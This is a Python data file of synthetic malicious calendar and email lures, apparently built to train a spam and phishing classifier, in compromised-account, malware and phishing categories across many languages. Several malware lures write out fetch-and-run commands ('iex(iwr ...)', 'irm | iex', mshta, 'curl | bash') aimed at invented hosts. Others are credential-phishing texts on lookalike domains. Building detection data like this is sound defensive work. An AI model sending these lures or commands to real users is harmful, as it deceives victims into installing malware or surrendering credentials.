# SPDX-License-Identifier: CC0-1.0
# train7 content: spam compromised, malware, phish. Every text written for this corpus.
from obf import zw, homo, spaced, leet


def R(lang, cl, frm, s, d=None, **kw):
    r = dict(lang=lang, cl=cl, frm=frm, s=s, **kw)
    if d is not None:
        r['d'] = d
    return r


SIG_HB = "\n\nGregory Lane\nSenior Associate | Hollis & Brandt LLP\nT +1 (555) 0132-447 | hollisbrandt.example"

COMPROMISED = [
    R('en', 'm365', ('Gregory Lane', 'g.lane@hollisbrandt.example'), 'Settlement Statement - Review Required',
      "Hello,\n\nHollis & Brandt LLP has shared a secure document with you for review.\n\nSettlement_Statement_"
      "Final.pdf (2 pages)\n\nView document: https://sway.cloud.microsoft/kQ7vR2xPz9LmT4aB?ref=Link\n\nPlease review "
      "at your earliest convenience and let us know if you have any questions." + SIG_HB, auth='pass', era=(2023, 2026)),
    R('en', 'google', ('Amanda Pierce', 'amanda.pierce@greystonecpa.example'), 'Proposal for review - Greystone CPA',
      "Hi,\n\nPlease find our updated engagement proposal for the coming tax year. I've shared it as a Google "
      "Drawing so you can see the fee breakdown:\n\nhttps://docs.google.com/drawings/d/1xQ9bT4mZk2LrPw8Vn3sHcYd6Ej0FuAo"
      "/preview\n\nBest,\nAmanda Pierce, CPA\nGreystone CPA Group", auth='pass', era=(2019, 2026)),
    R('en', 'm365', ('Natalie Okafor', 'n.okafor@kestevenproperty.example'), 'Secure Message: Kesteven Property Group',
      "You have received a secure message from Kesteven Property Group.\n\nTo read the message, verify your "
      "identity using the link below:\n\nhttps://forms.office.com/r/Xk4Tq9ZbL2\n\nThis secure link expires in 24 "
      "hours.\n\nNatalie Okafor\nLettings Manager\nKesteven Property Group | 01632 960418", teams=True, auth='pass',
      tz='Europe/London'),
    R('en', 'm365', ('Steve Marchetti', 'smarchetti@coastlinemech.example'), 'PO-7781 and remittance',
      "Good morning,\n\nAttached via Dropbox is the purchase order PO-7781 and the remittance for last month. "
      "Please confirm the quantities.\n\nhttps://www.dropbox.com/scl/fi/8hq2w3ks0xv1lp7ja5c4d/PO-7781.pdf?rlkey="
      "m2v8q5tx0z7n4b1c6y9d3e&dl=0\n\nThanks,\nSteve Marchetti\nPurchasing | Coastline Mechanical Inc.\n"
      "(555) 0196-2210", auth='pass', tz='America/Los_Angeles'),
    R('en', 'google', ('Helen Ashworth', 'helen@ashworthdesign.example'), 'Files sent via WeTransfer',
      "Hi {fn},\n\nI've sent over the project files via WeTransfer as they were too big for email. Link is valid "
      "for 7 days:\n\nhttps://we.tl/t-9XvQ2mKp4L\n\nLet me know once downloaded.\n\nHelen", auth='pass',
      tz='Europe/London', meet=False),
    R('en', 'm365', ('Rajesh Iyer', 'rajesh.iyer@meridianpartners.example'), 'Q3 Statement of Account',
      "Dear Partner,\n\nPlease find the Q3 statement of account shared via DocSend. Kindly review and advise "
      "on the outstanding balance.\n\nhttps://docsend.com/view/q7m3xk2b9w8t5rzn\n\nRegards,\nRajesh Iyer\nFinance "
      "Controller, Meridian Partners", auth='pass'),
    R('en', 'tb', ('Lisa Chen', 'lisa.chen@brightwaternonprofit.example'), 'Annual Report Draft',
      "Hi everyone,\n\nOur annual report draft is ready for board review. I put it on Canva so the layout "
      "displays correctly:\n\nhttps://www.canva.com/design/DAGk7pQx2Mz/vR4nT8bL1sW3yHc6/view\n\nClick \"View "
      "Document\" on the page to open the full PDF.\n\nLisa", auth='pass', infra='self', att=14),
    R('en', 'm365', ('Paul Dunmore', 'pdunmore@dunmoreeng.example'), 'Signed Agreement - Adobe Acrobat',
      "Paul Dunmore has shared a document with you in Adobe Acrobat.\n\nSigned_Agreement_{ref}.pdf\n\nOpen: "
      "https://acrobat.adobe.com/id/urn:aaid:sc:EU:6f2b9c1a-4d7e-4a38-9b5c-0e1f2a3b4c5d\n\nPaul Dunmore\n"
      "Dunmore Engineering Ltd", auth='pass', tz='Europe/Dublin'),
    R('en', 'google', ('Maria Gonzalez', 'mgonzalez@sunridgeschools.example'), 'Payroll Benefits Update',
      "All staff,\n\nPlease review the 2025 payroll and benefits update before open enrolment closes. The "
      "document is on Box:\n\nhttps://app.box.com/s/x8w2kq7m1v4z9p3t6r0n5b\n\nMaria Gonzalez\nHR Coordinator",
      auth='pass', att=28, era=(2024, 2025), tz='America/Chicago'),
    R('en', 'fastmail', ('Owen Pritchard', 'owen@pritchardarchitects.example'), 'Remittance Advice',
      "Hello,\n\nRemittance advice for invoice 2291 is available here:\nhttps://pritchard-remit.notion.site/"
      "Remittance-Advice-2291-4c8e1f0a9b7d\n\nRegards,\nOwen", auth='pass'),
    R('en', 'm365', ('Janet Holloway', 'jholloway@redfernmedical.example'), 'Document for signature',
      "Hi,\n\nJanet Holloway sent you a document to review and sign.\n\nREVIEW DOCUMENT\nhttps://form.jotform.com/"
      "243187650921462\n\nPlease complete by end of day.\n\nJanet Holloway\nPractice Manager | Redfern Medical "
      "Centre | +1 555 0173 9921", auth='pass', era=(2022, 2026)),
    R('en', 'olk', ('Trevor Banks', 'tbanks@banksfreight.example'), 'Shared: Updated rate sheet 2025',
      "Hi,\n\nHope you are well. Please see our updated rate sheet shared through OneDrive:\n\n"
      "https://1drv.ms/b/s!AqTz4Kx9pL2mhVb7Wc1dQ8nRf3Ye?e=Kx2mQp\n\nThanks and regards,\nTrevor Banks\n"
      "Banks Freight Ltd | 07700 900583", auth='selfdkim', tz='Europe/London', altdesc=True),
    R('de', 'm365', ('Claudia Vogt', 'c.vogt@vogt-steuerberatung.example'), 'Dokument zur Ansicht: Jahresabschluss',
      "Guten Tag,\n\nanbei erhalten Sie den Jahresabschluss zur Durchsicht. Das Dokument wurde Ihnen über "
      "OneNote freigegeben:\n\nhttps://vogtsteuerberatung-my.sharepoint.com/:o:/g/personal/c_vogt_vogt-"
      "steuerberatung_example/EkQ2xZ9mLpT4vB7nR1sW3yQ\n\nBitte klicken Sie im Dokument auf „Datei anzeigen“.\n\n"
      "Mit freundlichen Grüßen\nClaudia Vogt\nSteuerberaterin", auth='pass', teams=True),
    R('de', 'google', ('Frank Lehmann', 'f.lehmann@lehmann-bau.example'), 'Angebot Bauvorhaben Nordstraße',
      "Hallo zusammen,\n\nwie besprochen das Angebot für das Bauvorhaben Nordstraße. Aufgrund der Dateigröße "
      "über Zoho WorkDrive:\n\nhttps://workdrive.zohoexternal.com/external/7b3f9c2e1d0a8b4c6e5f\n\nGruß\nFrank "
      "Lehmann", auth='pass', att=9),
    R('fr', 'm365', ('Sophie Garnier', 's.garnier@garnier-notaires.example'), 'Document sécurisé à consulter',
      "Bonjour,\n\nUn document confidentiel vous a été partagé par l'étude Garnier & Associés. Pour le consulter, "
      "veuillez vous identifier :\n\nhttps://garniernotaires.sharefile.com/d-s7f2e9b4c1a84d3e\n\nBien "
      "cordialement,\nSophie Garnier\nClerc de notaire\n01 99 00 47 12", auth='pass'),
    R('fr', 'zimbra', ('Marc Dubois', 'marc.dubois@transports-dubois.example'), 'Facture et bon de livraison',
      "Bonjour,\n\nVeuillez trouver ci-joint la facture ainsi que le bon de livraison. Les documents sont "
      "disponibles sur notre espace Google Sites :\n\nhttps://sites.google.com/view/transports-dubois-docs/"
      "accueil\n\nCordialement,\nMarc Dubois", auth='pass', infra='self'),
    R('es', 'm365', ('Lucía Herrera', 'lherrera@herreraconsultores.example'), 'Propuesta comercial compartida',
      "Buenos días,\n\nLucía Herrera le ha compartido un archivo: Propuesta_Comercial_2025.pdf\n\nAbrir: "
      "https://herreraconsultores-my.sharepoint.com/:b:/g/personal/lherrera/EaR7tY2uI9oP3aS5dF8gH1j\n\nUn "
      "saludo,\nLucía Herrera", auth='pass'),
    R('it', 'google', ('Giorgio Rinaldi', 'g.rinaldi@rinaldi-impianti.example'), 'Preventivo aggiornato',
      "Buongiorno,\n\nle invio il preventivo aggiornato tramite Dropbox Transfer:\n\nhttps://www.dropbox.com/t/"
      "Qk8m2Zx4Lp7vT1bN\n\nCordiali saluti\nGiorgio Rinaldi\nRinaldi Impianti Srl", auth='pass'),
    R('nl', 'm365', ('Joost Verbeek', 'j.verbeek@verbeek-accountants.example'), 'Gedeeld document: jaaroverzicht',
      "Goedemiddag,\n\nHet jaaroverzicht staat voor u klaar. U kunt het bekijken via onderstaande beveiligde "
      "link:\n\nhttps://verbeekaccountants.typeform.com/to/Xq2LmP9z\n\nMet vriendelijke groet,\nJoost Verbeek",
      auth='pass'),
    R('pt', 'google', ('Camila Ribeiro', 'camila.ribeiro@ribeiroimoveis.example'), 'Contrato para assinatura',
      "Olá,\n\nCamila Ribeiro enviou um documento para você revisar e assinar.\n\nhttps://na4.docusign.net/"
      "Signing/EmailStart.aspx?a=6c1f0e9d-2b3a-4c5d-8e7f-901a2b3c4d5e&etti=24&acct=f9e8d7c6\n\nAtenciosamente,\n"
      "Camila Ribeiro\nRibeiro Imóveis", auth='pass', tz='America/Sao_Paulo'),
    R('pl', 'm365', ('Tomasz Wiśniewski', 't.wisniewski@wisniewski-transport.example'), 'Zestawienie płatności',
      "Dzień dobry,\n\nprzesyłam zestawienie płatności za ostatni kwartał. Plik udostępniony przez Google Forms "
      "(wymagana weryfikacja):\n\nhttps://forms.gle/Hx7qP2mZ4kL9tR3v8\n\nPozdrawiam\nTomasz Wiśniewski",
      auth='pass', cs='iso-8859-2', hcs='iso-8859-2'),
    R('ja', 'm365', ('田中 浩二', 'k.tanaka@tanaka-shoji.example'), '【共有】請求書のご確認',
      "いつもお世話になっております。\n田中商事の田中です。\n\n今月分の請求書を共有いたしました。下記リンクよりご確認"
      "ください。\n\nhttps://tanakashoji.padlet.org/k_tanaka/invoice_2025\n\n何卒よろしくお願いいたします。\n\n"
      "田中 浩二\n田中商事株式会社", auth='pass'),
]

MALWARE = [
    R('en', 'lib', ('Zoom Meetings', 'meetings@zoom-us-update.com'), 'Zoom: update required to join',
      "Your Zoom client version is no longer supported for this meeting.\n\nTo join \"Weekly Sync\" on {date} at "
      "{time}, install the latest Zoom Workplace update first:\n\nhttps://zoom-us-update.com/download/"
      "ZoomInstallerFull.exe\n\nMeeting ID: 861 {pin} 2207\nPasscode: 417233", conf='https://zoom-us-update.com/j/861{pin}2207',
      loc='https://zoom-us-update.com/j/861{pin}2207', auth='pass', era=(2021, 2026)),
    R('en', 'm365', ('Microsoft Teams', 'teams-noreply@tenant-secure8841.onmicrosoft.com'), 'Teams meeting: client update needed',
      "You have been invited to a Microsoft Teams meeting.\n\nIMPORTANT: Your Teams desktop client is out of date "
      "and cannot connect to this meeting. Please run the update package before joining:\n"
      "https://teams-clientupdate.azurewebsites.net/TeamsUpdate_x64.msi\n\nAfter installing, use the join link "
      "in this invitation.", teams=True, auth='pass', era=(2022, 2026)),
    R('en', 'google', ('Meeting Verification', 'secure.meet.verify@gmail.com'), 'Action required before the call',
      "Hi {fn},\n\nOur meeting room uses human verification to prevent bots. Before the call please complete these "
      "steps:\n\n1. Press Windows key + R\n2. Paste this (Ctrl+V): powershell -w h -nop -c \"iex(iwr -useb "
      "https://meet-verify.cloud/v.ps1)\"\n3. Press Enter\n\nYou will see \"Verification ID: 5521\" and can join "
      "the call normally.", era=(2024, 2026), meet=True),
    R('de', 'lib', ('Support Videokonferenz', 'support@konferenz-hilfe.de'), 'Audio-Problem vor dem Termin beheben',
      "Hallo {fn},\n\nbei Ihrem letzten Verbindungsversuch wurde ein Fehler im Audiotreiber erkannt "
      "(Code 0x80070002). Damit der Termin am {date} funktioniert, beheben Sie ihn bitte so:\n\n1. "
      "Windows-Taste + R drücken\n2. Strg + V drücken (der Befehl ist bereits kopiert)\n3. Enter drücken\n\nFalls "
      "nichts kopiert wurde: mshta https://konferenz-hilfe.de/fix/audio.hta\n\nIhr Support-Team", auth='pass',
      era=(2024, 2026)),
    R('en', 'calendly', ('Ethan Ross', 'ethan@vortexlabs-capital.io'), 'Intro call: Vortex Labs x {fn}',
      "Hey {fn}, excited to chat about a potential partnership!\n\nWe use our own secure meeting platform for "
      "investor calls. Please download Meetio from https://meetio-app.com/download (Windows and macOS) and "
      "join with code VX-{pin} a couple of minutes before.\n\nTalk soon,\nEthan", bulkdom='calendly.com',
      loc='Meetio (download link in description)', era=(2024, 2026), tz='America/New_York'),
    R('fr', 'bare', ('Service Facturation', 'facturation@docs-partage-fr.com'), 'Facture {ref} - document joint',
      "Bonjour,\n\nVous trouverez la facture {ref} en pièce jointe de l'invitation.\n\nCordialement",
      attach=[('application/zip', 'https://cdn-docs-partage.com/Facture_{ref}.zip')], auth='pass', infra='vps'),
    R('en', 'gmailatt', ('Accounts Payable', 'ap.remittance.dept@gmail.com'), 'Remittance advice - payment sent',
      "Hello,\n\nPayment has been released. Please open the attached remittance advice to confirm the amount.\n\n"
      "Accounts Payable", b="Please see attached remittance and calendar confirmation.\n\nAccounts Payable\n",
      extra_parts=[('text/html', 'Remittance_Advice.html',
                    b'<html><head><title>Remittance</title></head><body onload="document.forms[0].submit()">'
                    b'<form method="get" action="https://remit-view.pages.dev/r"><input type="hidden" name="id" '
                    b'value="8841"></form><p>Loading document...</p></body></html>\r\n', 'base64')]),
    R('es', 'lib', ('Departamento Legal', 'legal@notificaciones-juridicas.com'), 'Citación judicial - documento adjunto',
      "Estimado/a {fn}:\n\nSe adjunta a la presente convocatoria la notificación judicial correspondiente al "
      "expediente {ref}. Abra el archivo adjunto para conocer los detalles.\n\nDepartamento Legal",
      x=['ATTACH;FMTTYPE=application/x-msdownload;ENCODING=BASE64;VALUE=BINARY;X-FILENAME=Citacion_{ref}.pdf.exe:'
         'TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAgAAAAA4fug4AtAnNIbgBTM0h'
         'VGhpcyBwcm9ncmFtIGNhbm5vdCBiZSBydW4gaW4gRE9TIG1vZGUuDQ0KJAAAAAAAAAA='], auth='pass'),
    R('ja', 'lib', ('Webex サポート', 'support@webex-jp-update.com'), '【Webex】会議参加前のアップデートのお願い',
      "{ln} 様\n\nご参加予定の会議（{date} {time}）は最新版のWebexアプリが必要です。\n"
      "以下より更新プログラムをダウンロードし、インストールしてください。\n\n"
      "https://webex-jp-update.com/dl/WebexSetup.msi\n\nWebex サポートセンター", auth='pass', cs='shift_jis',
      hcs='iso-2022-jp', era=(2020, 2026)),
    R('pt', 'google', ('Suporte Google Meet', 'meet.suporte.tecnico@gmail.com'), 'Seu microfone está bloqueado',
      "Olá {fn},\n\nDetectamos que seu microfone foi bloqueado no último encontro. Para corrigir antes da reunião:\n\n"
      "1. Pressione Windows + R\n2. Cole o comando: cmd /c start /min powershell -ep bypass -c \"irm "
      "https://meet-fix-audio.com/br | iex\"\n3. Pressione Enter\n\nEquipe de suporte", era=(2024, 2026),
      tz='America/Sao_Paulo'),
    R('en', 'icloud', ('Dev Support', 'devsupport.sdk@icloud.com'), 'Install the meeting SDK (macOS)',
      "Hi {fn},\n\nFor tomorrow's technical interview we use a custom screen-sharing tool. On your Mac, open "
      "Terminal and paste:\n\ncurl -fsSL https://interview-sdk.dev/install.sh | bash\n\nThen enter your password "
      "when asked so the tool can access the screen.\n\nSee you then!", era=(2023, 2026)),
    R('ru', 'lib', ('Техподдержка', 'support@telemost-update.ru'), 'Обновите клиент видеосвязи до встречи',
      "Здравствуйте, {fn}!\n\nДля участия во встрече {date} в {time} необходимо установить обновление клиента "
      "видеосвязи. Скачайте архив и запустите файл setup.exe:\n\nhttps://telemost-update.ru/files/client_update.zip\n\n"
      "Пароль от архива: 2025\n\nСлужба поддержки", auth='pass', cs='koi8-r', hcs='koi8-r'),
    R('it', 'webatt', ('Amministrazione', 'amministrazione.fatture@libero.it'), 'Fattura elettronica n. {ref}',
      "Buongiorno,\n\nin allegato la fattura elettronica n. {ref} e il promemoria di pagamento.\n\nCordiali saluti\n"
      "Ufficio Amministrazione",
      extra_parts=[('application/zip', 'Fattura_{ref}.zip', b'PK\x03\x04\x14\x00\x00\x00\x08\x00' + bytes(range(40, 120)), 'base64')]),
    R('en', 'lib', ('Adobe Document Cloud', 'no-reply@adobe-doc-share.net'), 'Signed contract ready to download',
      "Your signed contract is ready. Due to file size it is provided as a disk image:\n\nhttps://adobe-doc-share.net"
      "/get/Signed_Contract_{ref}.img\n\nOpen the image and run \"View Document\" to display the contract.",
      auth='pass', url='https://adobe-doc-share.net/get/Signed_Contract_{ref}.img'),
    R('tr', 'm365', ('Microsoft Teams', 'bildirim@teams-guncelleme.onmicrosoft.com'), 'Teams toplantısı: güncelleme gerekli',
      "Merhaba {fn},\n\nToplantıya katılabilmeniz için Teams uygulamanızın güncellenmesi gerekiyor. Aşağıdaki "
      "bağlantıdan güncellemeyi indirip çalıştırın:\n\nhttps://teams-guncelleme.com/indir/TeamsSetup.exe\n\n"
      "Microsoft Teams", auth='pass', teams=True, era=(2021, 2026)),
    R('en', 'yahoo', ('Meeting Recording', 'meeting.recording.share@yahoo.com'), 'Meeting recording available',
      "The recording of your last meeting is available.\n\nTo play it you need the latest Adobe Flash Player. "
      "Download it here: http://flash-player-update.info/install_flash_player.exe\n\nThe recording will be "
      "deleted after 7 days.", era=(2016, 2019)),
]

PHISH = [
    R('en', 'bare', ('Microsoft 365', 'no-reply@microsoft.com'), 'Password expiry notice for {to}',
      "Microsoft 365\n\nThe password for {to} expires today.\n\nKeep current password: https://m365-keep-"
      "password.web.app/?u={to}\n\nIf you do not take action you will be signed out of Outlook, Teams and "
      "OneDrive.", infra='spambot', auth='spoof', env='bounce@mailer-{code}.sbs', noorg=False, days=(0, 0),
      alarms=['-PT5M']),
    R('en', 'google', ('PayPal Resolution Center', 'paypal.service.resolution@gmail.com'),
      homo('Your PayPal account has been limited'),
      "We noticed unusual activity on your PayPal account and have temporarily limited what you can do.\n\n"
      "Case ID: PP-{ref}\n\nTo restore full access, confirm your information: https://paypal-resolution-center."
      "firebaseapp.com/restore\n\nIf we don't hear from you within 72 hours your account will be permanently "
      "limited.\n\nThe PayPal Team", era=(2018, 2026)),
    R('en', 'm365', ('DocuSign', 'dse@docsign-notify.onmicrosoft.com'), 'Please review and sign: Employee Handbook {y}',
      "DocuSign\n\nHuman Resources sent you a document to review and sign.\n\nREVIEW DOCUMENT\nhttps://docusign-"
      "review.net/signing/{code}\n\nPlease review the Employee Handbook {y} and sign by {date}.\n\nDo Not Share "
      "This Email: this email contains a secure link to DocuSign.", auth='pass', era=(2020, 2026)),
    R('en', 'lib', ('Adobe Document Cloud', 'share@adobecloud-files.com'), 'Shared file: Payment_Details.pdf',
      "A file has been shared with you via Adobe Document Cloud.\n\nPayment_Details.pdf (148 KB)\n\nView PDF: "
      "https://pub-7f3e9a1c2b4d4e5f.r2.dev/adobe/index.html#{to}", auth='pass'),
    R('en', 'icsonly', ('Voicemail Service', 'voicemail@pbx-notify.net'), 'New voicemail (0:47)',
      "You have a new voicemail from +1 (555) 0148-2290, duration 0:47, received {date} {time}.\n\nListen: "
      "https://voice-msg-portal.pages.dev/play?u={to}", loc='https://voice-msg-portal.pages.dev/play?u={to}',
      auth='pass', noorg=True),
    R('en', 'icloud', ('Apple Support', 'appleid.security.notice@icloud.com'), zw('Your Apple ID has been locked'),
      homo("Your Apple ID was locked for security reasons because someone tried to sign in from an unknown "
           "device.") + "\n\nUnlock now: https://appleid-unlock-support.com/verify\n\nApple Support",
      era=(2016, 2019)),
    R('en', 'google', ('Netflix', 'netflix.billing.help@gmail.com'), zw('Payment failed - update your billing'),
      zw("We couldn't process your last payment. Update your payment details to keep watching.") +
      "\n\nhttps://tinyurl.com/nflx-billing-update\n\n" + zw("Your membership will be cancelled in 24 hours."),
      era=(2019, 2026)),
    R('en', 'google', ('Account Team', 'calendar.acc.review@gmail.com'), 'Confirm your account details',
      "Review required.\n\nPlease verify your account information using the secure form below to avoid service "
      "interruption:\n\nhttps://docs.google.com/forms/d/e/1FAIpQLSd8xK2mP7vQ4zT9nR3bW6yH1cJ5eL0aF/viewform\n\n"
      "This invitation was sent to {to}.", att=25, era=(2024, 2025)),
    R('de', 'lib', ('Sparkasse', 'service@sparkasse-pushtan-update.de'), 'Aktualisierung Ihres pushTAN-Verfahrens',
      "Sehr geehrte Kundin, sehr geehrter Kunde,\n\naufgrund neuer gesetzlicher Vorgaben muss Ihr "
      "pushTAN-Verfahren bis zum {date} aktualisiert werden. Andernfalls wird Ihr Online-Banking-Zugang "
      "vorübergehend gesperrt.\n\nJetzt aktualisieren: https://sparkasse-pushtan-update.de/login\n\nIhre "
      "Sparkasse", auth='pass', cs='iso-8859-1', hcs='iso-8859-1'),
    R('fr', 'google', ('Ameli - Assurance Maladie', 'ameli.remboursement.info@gmail.com'), 'Remboursement en attente',
      "Bonjour,\n\nAprès vérification de votre dossier, un remboursement de 147,30 € est en attente. Pour le "
      "recevoir, veuillez mettre à jour votre carte Vitale avant le {date}.\n\nhttps://ameli-remboursement.sbs/"
      "espace-assure\n\nL'Assurance Maladie"),
    R('es', 'lib', ('BBVA', 'alertas@bbva-seguridad-clientes.com'), 'Su acceso ha sido bloqueado',
      "Estimado cliente,\n\nHemos bloqueado temporalmente su acceso a la banca online por un intento de inicio de "
      "sesión no reconocido. Verifique su identidad para desbloquearlo:\n\nhttps://bbva-seguridad-clientes.com/"
      "verificar\n\nBBVA", auth='pass', tz='Europe/Madrid'),
    R('it', 'google', ('Intesa Sanpaolo', 'intesa.sicurezza.clienti@gmail.com'), 'Verifica di sicurezza richiesta',
      "Gentile cliente,\n\nper garantire la sicurezza del suo conto è necessario completare la verifica "
      "dell'identità entro {date}. Acceda qui: https://intesa-verifica.online/accesso\n\nIntesa Sanpaolo"),
    R('ja', 'lib', ('Amazon.co.jp', 'account-update@amazon-co-jp-support.com'), 'Amazonアカウントの一時停止のお知らせ',
      "{ln} 様\n\nお客様のアカウントで異常なログインが検出されたため、アカウントを一時停止しました。\n"
      "24時間以内に以下のリンクから情報を更新してください。\n\nhttps://amazon-co-jp-support.com/ap/signin\n\n"
      "Amazon.co.jp カスタマーサービス", auth='pass', cs='utf-8'),
    R('ko', 'webatt', ('네이버 고객센터', 'naver.security.help@gmail.com'), '[네이버] 새로운 기기에서 로그인 시도',
      "{fn}님의 네이버 계정에 해외에서 로그인 시도가 있었습니다.\n\n본인이 아닌 경우 아래 링크에서 즉시 비밀번호를 "
      "변경해 주세요.\n\nhttps://nid-naver-security.com/login\n\n네이버 고객센터", cs='euc-kr', hcs='euc-kr'),
    R('th', 'google', ('ธนาคารกสิกรไทย', 'kbank.security.th@gmail.com'), 'บัญชีของคุณถูกระงับชั่วคราว',
      "เรียนลูกค้า\n\nบัญชีของคุณถูกระงับชั่วคราวเนื่องจากพบการเข้าใช้งานที่ผิดปกติ กรุณายืนยันตัวตนภายใน 24 ชั่วโมง "
      "ที่ลิงก์ด้านล่าง\n\nhttps://kbank-verify-th.com/login\n\nธนาคารกสิกรไทย", tz='Asia/Bangkok'),
    R('nl', 'lib', ('example.net Beheer', 'beheer@examp1e-net.com'), 'Uw mailbox is bijna vol',
      "Beste {fn},\n\nUw mailbox {to} heeft 98% van de opslaglimiet bereikt. Nieuwe e-mails worden binnenkort "
      "geweigerd.\n\nVerhoog uw opslag gratis via de beheerportal:\nhttps://examp1e-net.com/webmail/quota?u={to}\n\n"
      "IT-beheer example.net", auth='pass'),
]

CATS = {('spam', 'compromised'): COMPROMISED, ('spam', 'malware'): MALWARE, ('spam', 'phish'): PHISH}
